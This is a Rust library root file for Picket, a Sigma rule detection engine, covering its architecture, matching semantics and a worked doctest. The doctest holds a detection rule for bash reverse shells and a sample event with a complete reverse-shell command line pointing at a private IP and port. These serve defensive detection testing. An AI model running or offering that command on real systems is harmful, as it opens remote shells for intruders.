//! Picket's detection engine: Sigma v2.1 rules evaluated on events.
//!
//! # Architecture
//!
//! ```text
//!  YAML files ──► rule::parse_info / rule::compile ──► RuleSet (immutable, Send + Sync)
//!                  │ modifiers applied to values at load time          │
//!                  │ (windash, base64offset, utf16, expand, ...)       │ routing index:
//!                  │ needles case-folded, grouped (Aho-Corasick)       │ (product, category, service)
//!                  ▼                                                   ▼
//!  errors: Vec<RuleError> (file, rule, place)     evaluate(&LogSource, &impl Event, &mut Vec<Match>)
//! ```
//!
//! * **Loading** ([`RuleSet::from_dir`], [`RuleSet::from_sources`]) parses
//!   each document with `yaml-rust2`, compiles its detection into matchers
//!   and its condition into a boolean tree over them. A rule that fails is
//!   reported in [`Loaded::errors`] with its file, id/title and [`Place`];
//!   the others load.
//! * **Routing**: an event comes with a [`LogSource`]; only the rules whose
//!   logsource agrees with it (each field the rule sets equals the event's)
//!   are evaluated. The index is a hash map keyed by interned logsource
//!   names, so routing costs at most eight lookups.
//! * **Evaluation** is sans-IO and allocation-free until a rule matches:
//!   fields are fetched from the [`Event`] at most once per event into a
//!   per-thread cache that holds their text and case-folded text; all
//!   values were folded at load time, so case-insensitive matching is a
//!   plain byte comparison (`memchr` for substrings, Aho-Corasick for long
//!   lists of substrings).
//! * **Prefilter**: for each rule the loader derives a necessary condition
//!   "field F contains one of these literals" from its non-negated
//!   selections, and the set keeps one literal table per field (each
//!   literal → the rules it unlocks). A [`Route`] (cached per logsource) is
//!   a bitset of its rules plus the searchers to run: per field, the
//!   set-wide searcher when the route needs most of the field's literals
//!   (hits of other routes' rules are masked out), or a smaller one over
//!   the literals it needs, shared by the routes needing the same ones.
//!   Searchers are Teddy (SIMD, `aho_corasick::packed`) for up to 64
//!   literals, run leftmost-longest and restarted after each match start
//!   with the match's prefix literals added, so every literal that occurs
//!   is reported; larger sets are overlapping Aho-Corasick automata (DFA up
//!   to 400 literals, contiguous NFA above). Keyword literals are searched
//!   value by value. Per event, one pass over each field tells which rules
//!   can possibly match, and only those are evaluated. A test checks over
//!   all SigmaHQ Windows rules and the shared EVTX samples that this
//!   changes no result.
//! * **Mappings**: [`EngineConfig`] carries placeholder values and field
//!   renames applied at load ([`FieldMapping::macos_ecs`] for the Elastic
//!   macOS events); [`windows`] normalizes EVTX records and routes them
//!   (Sysmon, Security 4688 renames, Defender); the Linux sensor emits
//!   Sysmon-for-Linux names, so Linux needs no mapping.
//! * **Correlations** run in a [`Correlator`], a sans-IO state machine fed
//!   with each event, its time and its matches (see [`correlation`] for the
//!   window semantics and the memory bounds).
//!
//! # Semantics the specification leaves open
//!
//! * **Keywords** (a detection that is a plain list of values): a keyword
//!   matches when it matches, as a substring with its wildcards, one value
//!   of the event (any field, nested values included, numbers as decimal
//!   text), case-insensitively. `'|all'` needs every keyword, each in some
//!   value.
//! * **Case**: insensitive by default for all of Unicode (per-character
//!   lowercase folding), sensitive with `cased` and for `re` unless `re|i`.
//! * **Types**: a YAML number equals the same number, or text reading as
//!   it; a quoted value is text and matches a number's decimal form; `null`
//!   matches a missing field or a null; `''` only an empty string; `neq`
//!   and `fieldref` never match a missing field.
//! * **Lists in events** (JSON arrays) match when one element matches.
//! * **Filters** (Sigma filters specification): the filter's condition is
//!   ANDed to the condition of the rules it names, as pySigma does, so a
//!   filter says what to *keep* (`condition: not selection`). The
//!   specification's example reads the other way (`condition: selection`
//!   as what to drop). We follow pySigma because filters in use are written
//!   and tested with pySigma-based tooling, and the two readings of the
//!   same file are opposite: following the one its author tested with is
//!   the only way not to invert it silently. A filter with no `rules`
//!   applies to every rule of its logsource.
//!
//! # Example
//!
//! ```
//! use picket_rules::{EngineConfig, LogSource, RuleSet};
//!
//! let rule = r#"
//! title: Reverse shell via bash
//! id: 5c3f1e9a-0000-4000-8000-000000000001
//! status: test
//! level: high
//! author: Picket
//! tags: [attack.execution, attack.t1059.004]
//! logsource: {product: linux, category: process_creation}
//! detection:
//!     selection:
//!         Image|endswith: '/bash'
//!         CommandLine|contains|all: ['/dev/tcp/', '>&']
//!     filter:
//!         User: root
//!     condition: selection and not filter
//! "#;
//! let loaded = RuleSet::from_sources([("rev.yml", rule)], &EngineConfig::new());
//! assert!(loaded.errors.is_empty());
//! let rules = loaded.rules;
//!
//! let event = serde_json::json!({
//!     "Image": "/usr/bin/bash",
//!     "CommandLine": "bash -i >& /DEV/TCP/10.0.0.1/4444 0>&1",
//!     "User": "www-data",
//! });
//! let mut alerts = Vec::new();
//! rules.evaluate(&LogSource::category("linux", "process_creation"), &event, &mut alerts);
//! assert_eq!(alerts.len(), 1);
//! assert_eq!(alerts[0].rule.techniques, ["T1059.004"]);
//! assert_eq!(alerts[0].rule.tactics[0].id, "TA0002");
//! assert_eq!(alerts[0].fields[0].name, "Image");
//!
//! // Other logsources never see the rule.
//! alerts.clear();
//! rules.evaluate(&LogSource::category("linux", "file_event"), &event, &mut alerts);
//! assert!(alerts.is_empty());
//! ```

pub mod attack;
mod attack_table;
mod cidr;
mod condition;
mod config;
pub mod correlation;
mod error;
mod event;
#[cfg(feature = "evtx")]
pub mod evtx;
mod fxhash;
mod matcher;
mod modifier;
mod pattern;
mod rule;
mod ruleset;
mod timestamp;
pub mod windows;

pub use attack::{Tactic, Technique};
pub use config::{EngineConfig, FieldMapping, MACOS_ECS_FIELDS};
pub use correlation::{
    CorrelationLimits, CorrelationMatch, CorrelationStats, CorrelationType, Correlator,
};
pub use error::{ErrorKind, LoadError, Place, RuleError};
pub use event::{Event, Value};
pub use rule::{Level, RuleInfo, RuleLogSource, Status};
pub use ruleset::{
    files_with_extensions, Loaded, LogSource, Match, MatchedField, Route, RuleSet, RULE_EXTENSIONS,
};
